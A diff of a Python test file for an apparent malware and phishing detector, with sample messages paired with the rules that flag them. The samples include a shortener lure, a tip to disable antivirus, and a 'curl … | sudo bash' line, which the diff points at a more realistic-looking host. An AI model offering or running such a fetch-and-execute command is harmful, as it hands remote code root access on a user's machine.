@@ -250,7 +250,7 @@ def test_allowed_words_are_not_flagged():
     ("<https://evil.example/x|https://github.com/acme>", "malware.mismatched_link"),
     ("URGENT verify your account now https://bit.ly/3abc", "malware.shortener_lure"),
     ("first disable your antivirus then run it", "malware.disable_protection"),
-    ("just run curl -s https://x.example/i.sh | sudo bash", "malware.exploit_delivery"),
+    ("just run curl -s https://cdn-patch.xyz/i.sh | sudo bash", "malware.exploit_delivery"),
 ])
 def test_malware(text, rule):
     assert rule in rules(text)
